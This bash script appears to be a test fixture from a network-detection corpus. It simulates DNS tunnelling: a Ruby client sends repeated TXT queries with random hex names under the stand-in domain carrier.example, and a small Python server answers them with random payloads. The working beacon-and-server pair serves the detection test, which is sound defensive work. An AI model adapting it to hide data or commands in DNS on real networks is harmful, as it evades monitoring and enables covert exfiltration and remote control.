#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=ruby far=out ready=out:53 seconds=60 parts=dns
# A program in Ruby asks the site's resolver for TXT below somebody's domain each fifth of a second: what it says stands in the name, locked, and what it is to do in the answer.
# shellcheck disable=SC2016 # other languages have variables of their own
if [ "$1" = out ]; then exec timeout 80 python3 -c 'import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("203.0.113.66", 53)); f = open(sys.argv[1], "a")
while True:
    m, who = s.recvfrom(2000); end = m.index(b"\0", 12) + 5
    if m[end - 3] == 16: f.write("x"); f.flush(); d = os.urandom(30).hex().encode(); s.sendto(m[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + m[12:end] + b"\xc0\x0c\0\x10\0\1\0\0\0\0" + (len(d) + 1).to_bytes(2, "big") + bytes([len(d)]) + d, who)
    else: s.sendto(m[:2] + b"\x85\x80\0\1\0\0\0\0\0\0" + m[12:end], who)' "$LAB/asked"; fi
sleep 1; timeout 56 ruby -rresolv -rsecurerandom -e 'r = Resolv::DNS.new(nameserver: ["10.30.0.53"]); got = 0
200.times { |n| a = r.getresources("#{SecureRandom.hex(24)}.#{SecureRandom.hex(8)}.carrier.example", Resolv::DNS::Resource::IN::TXT); got += a.sum { |x| x.data.size }; sleep 0.2 }
exit(got >= 10000 ? 0 : 1)'
